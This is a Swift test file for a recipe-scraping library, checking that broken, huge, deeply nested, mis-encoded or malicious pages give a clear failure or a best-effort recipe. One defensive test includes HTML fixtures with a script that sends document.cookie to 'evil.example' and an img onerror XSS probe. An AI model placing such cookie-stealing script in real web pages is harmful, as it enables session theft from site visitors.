import Foundation
import LarderCore
import LarderHTML
import Testing

/// Pages that are broken, huge, deep, mis-encoded or malicious: a clear failure or a
/// best-effort recipe, never a crash.
struct HostilePageTests {
    static let recipePage = """
    <html><head><title>Toast | Example Kitchen</title>
    <script type="application/ld+json">{"@context":"https://schema.org","@type":"Recipe","name":"Toast",
    "recipeIngredient":["2 slices bread","1 tbsp butter"],"recipeInstructions":"Toast the bread.\\nButter it."}</script>
    </head><body><h1>Toast</h1></body></html>
    """

    func scrape(_ html: String, url: String? = nil) throws -> Recipe {
        try RecipeScraper.scrape(html: Data(html.utf8), url: url.flatMap(URL.init(string:)))
    }

    @Test func aTruncatedPageStillGivesWhatItHas() throws {
        let cut = String(Self.recipePage.prefix(Self.recipePage.count - 40))
        let recipe = try scrape(cut)
        #expect(recipe.title == "Toast")
        #expect(recipe.ingredientGroups.first?.ingredients.count == 2)
    }

    @Test func binaryDataIsNoRecipe() {
        var generator = SystemRandomNumberGenerator()
        let bytes = Data((0..<200_000).map { _ in UInt8.random(in: 0...255, using: &generator) })
        #expect(throws: ScrapeError.self) { try RecipeScraper.scrape(html: bytes, url: nil) }
        #expect(throws: ScrapeError.self) { try RecipeScraper.scrape(html: Data(), url: nil) }
    }

    @Test func aFiftyMegabytePageIsReadWithoutTrouble() throws {
        let parts = Self.recipePage.components(separatedBy: "<h1>Toast</h1>")
        let block = Data("<div class=\"ad\"><p>Sponsored text that goes on and on.</p></div>\n".utf8)
        var page = Data((parts[0] + "<h1>Toast</h1>").utf8)
        page.reserveCapacity(52_000_000)
        for _ in 0..<(50_000_000 / block.count + 1) { page.append(block) }
        page.append(Data(parts[1].utf8))
        #expect(page.count > 50_000_000)
        #expect(try RecipeScraper.scrape(html: page, url: nil).title == "Toast")
    }

    @Test func deeplyNestedMarkupDoesNotOverflowTheStack() throws {
        let depth = 100_000
        let page = Self.recipePage.replacingOccurrences(of: "<h1>Toast</h1>",
            with: String(repeating: "<div><span>", count: depth) + "<ul class=\"ingredients\"><li>1 egg</li><li>2 eggs</li></ul>" + String(repeating: "</span></div>", count: depth))
        #expect(try scrape(page).title == "Toast")
    }

    @Test func invalidUTF8BytesDoNotStopTheRecipe() throws {
        var data = Data(Self.recipePage.utf8)
        let insertAt = data.range(of: Data("<body>".utf8))!.upperBound
        data.insert(contentsOf: [0xC3, 0x28, 0xFF, 0xFE, 0xA0, 0xE2, 0x82], at: insertAt)
        let recipe = try RecipeScraper.scrape(html: data, url: nil)
        #expect(recipe.title == "Toast")
    }

    @Test func theDeclaredCharsetIsHonoured() throws {
        // "Crème brûlée" in windows-1252, declared by <meta charset>.
        var data = Data("<html><head><meta charset=\"windows-1252\"><title>x</title></head><body><h2>Ingredients</h2><ul><li>1 cup cr".utf8)
        data.append(contentsOf: [0xE8])
        data.append(Data("me fra".utf8))
        data.append(contentsOf: [0xEE])
        data.append(Data("che</li><li>2 eggs</li></ul></body></html>".utf8))
        let recipe = try RecipeScraper.scrape(html: data, url: nil)
        #expect(recipe.ingredientGroups.first?.ingredients.first?.line == "1 cup crème fraîche")
        #expect(CharsetSniffer.encoding(of: Data("x".utf8), contentType: "text/html; charset=ISO-8859-1") == "windows-1252")
        #expect(CharsetSniffer.encoding(of: Data([0xEF, 0xBB, 0xBF, 0x3C])) == "UTF-8")
    }

    @Test func jsonLDThatIsNotJSONFallsThroughToTheMarkup() throws {
        let page = """
        <html><head><script type="application/ld+json">{"@type": "Recipe", "name": "Broken" ,,, }}}</script></head>
        <body><h1>Pancakes</h1><div class="wprm-recipe-ingredients-container"><ul>
        <li class="wprm-recipe-ingredient">1 cup flour</li><li class="wprm-recipe-ingredient">1 egg</li></ul></div></body></html>
        """
        let recipe = try scrape(page)
        #expect(recipe.title == "Pancakes")
        #expect(recipe.ingredientGroups.flatMap(\.ingredients).map(\.line) == ["1 cup flour", "1 egg"])
    }

    @Test func repairableJSONLDIsRepaired() throws {
        let escaped = """
        <html><head><script type="application/ld+json"><!--
        {&quot;@type&quot;: &quot;Recipe&quot;, &quot;name&quot;: &quot;Soup&quot;, &quot;recipeIngredient&quot;: [&quot;1 l water&quot;,]}
        --></script></head><body></body></html>
        """
        #expect(try scrape(escaped).title == "Soup")
        let controlCharacters = "<script type=\"application/ld+json\">{\"@type\":\"Recipe\",\"name\":\"Tea\",\"recipeInstructions\":\"Boil.\n\tSteep.\",\"recipeIngredient\":[\"1 bag tea\"]}</script>"
        let tea = try scrape(controlCharacters)
        #expect(tea.instructionSections.flatMap(\.steps).map(\.text) == ["Boil.", "Steep."])
    }

    @Test func scriptsInThePageNeverBecomeRecipeText() throws {
        let page = """
        <html><body><h1>Lemonade</h1><h2>Ingredients</h2><ul>
        <li>1 cup sugar<script>document.location='https://evil.example/'+document.cookie</script></li>
        <li><img src=x onerror="alert(1)">4 lemons</li></ul>
        <h2>Method</h2><ol><li>Mix.<style>body{display:none}</style></li></ol></body></html>
        """
        let recipe = try scrape(page)
        let text = recipe.ingredientGroups.flatMap(\.ingredients).map(\.line) + recipe.instructionSections.flatMap(\.steps).map(\.text)
        #expect(text == ["1 cup sugar", "4 lemons", "Mix."])
    }

    @Test func urlsComeFromTheCanonicalLinkThenOGThenTheGivenAddress() throws {
        let canonical = Self.recipePage.replacingOccurrences(of: "<title>", with: "<link rel=\"canonical\" href=\"https://www.example.org/toast/\"><meta property=\"og:url\" content=\"https://other.example/\"><title>")
        #expect(try scrape(canonical, url: "https://mirror.example/page").provenance.sourceURL == "https://www.example.org/toast/")
        let og = Self.recipePage.replacingOccurrences(of: "<title>", with: "<meta property=\"og:url\" content=\"https://other.example/toast\"><title>")
        #expect(try scrape(og, url: "https://mirror.example/page").provenance.sourceURL == "https://other.example/toast")
        let given = try scrape(Self.recipePage, url: "https://mirror.example/page")
        #expect(given.provenance.sourceURL == "https://mirror.example/page")
        #expect(given.provenance.site == "mirror.example")
    }
}

struct PageTitleTests {
    @Test(arguments: [
        ("Banh Mi | Tofoo", "Tofoo", "tofoo.co.uk", "Banh Mi"),
        ("Cherry Sugar Plums — Tasting History", nil, "www.tastinghistory.com", "Cherry Sugar Plums"),
        ("Chilli con carne recipe", nil, "www.nhs.uk", "Chilli con carne"),
        ("Arretjescake – Recept", nil, "rutgerbakt.nl", "Arretjescake"),
        ("Fish - Chips", nil, "example.org", "Fish - Chips"),
    ] as [(String, String?, String, String)])
    func pageTitlesLoseTheSiteName(_ title: String, _ site: String?, _ host: String, _ expected: String) throws {
        let page = """
        <html><head><title>\(title)</title>\(site.map { "<meta property=\"og:site_name\" content=\"\($0)\">" } ?? "")</head>
        <body><h2>Ingredients</h2><ul><li>1 cup flour</li><li>2 eggs</li></ul></body></html>
        """
        let recipe = try RecipeScraper.scrape(html: Data(page.utf8), url: URL(string: "https://\(host)/recipe"))
        #expect(recipe.title == expected)
    }
}

struct PageFactTests {
    @Test func yieldAndTimesWrittenOnThePageAreRead() throws {
        let page = """
        <html><body><h1>Flapjacks</h1>
        <div class="meta"><span class="label">Prep Time</span> <span>15 mins</span></div>
        <div class="meta"><span class="label">Total Time:</span> <span>1 hr 10 mins</span></div>
        <p>Serves 8</p>
        <h2>Ingredients</h2><ul><li>250 g oats</li><li>125 g butter</li></ul>
        <h2>Method</h2><ol><li>Melt.</li><li>Bake.</li></ol></body></html>
        """
        let recipe = try RecipeScraper.scrape(html: Data(page.utf8), url: nil)
        #expect(recipe.yield?.servings?.value == 8)
        #expect(recipe.times.prep?.minutes == 15)
        #expect(recipe.times.total?.minutes == 70)
        #expect(recipe.times.cook == nil)
        // A count in words is a count; "a crowd" is not.
        let words = try RecipeScraper.scrape(html: Data(page.replacingOccurrences(of: "Serves 8", with: "Serves eight to ten").utf8), url: nil)
        #expect(words.yield?.servings?.value == 8)
        #expect(words.yield?.servings?.upper == 10)
        let crowd = try RecipeScraper.scrape(html: Data(page.replacingOccurrences(of: "Serves 8", with: "Serves a crowd").utf8), url: nil)
        #expect(crowd.yield == nil)
    }
}

struct PageImageTests {
    func page(og: String, schema: String) -> Data {
        Data("""
        <html><head><meta property="og:image" content="\(og)">
        <script type="application/ld+json">{"@type":"Recipe","name":"Soup","image":["\(schema)"],"recipeIngredient":["1 l stock","1 leek"]}</script>
        </head><body></body></html>
        """.utf8)
    }

    @Test func wordPressShareImagesLeadOverGeneratedCrops() throws {
        let recipe = try RecipeScraper.scrape(html: page(og: "https://blog.example/wp-content/uploads/soup.jpg",
                                                         schema: "https://blog.example/wp-content/uploads/soup-225x225.jpg"), url: nil)
        #expect(recipe.images.map(\.url) == ["https://blog.example/wp-content/uploads/soup.jpg", "https://blog.example/wp-content/uploads/soup-225x225.jpg"])
    }

    @Test func elsewhereTheRecipesOwnImageLeadsAndTheShareImageIsKept() throws {
        let recipe = try RecipeScraper.scrape(html: page(og: "https://cdn.example/og/soup-1200x630.jpg", schema: "https://cdn.example/recipes/soup.jpg"), url: nil)
        #expect(recipe.images.map(\.url) == ["https://cdn.example/recipes/soup.jpg", "https://cdn.example/og/soup-1200x630.jpg"])
    }
}
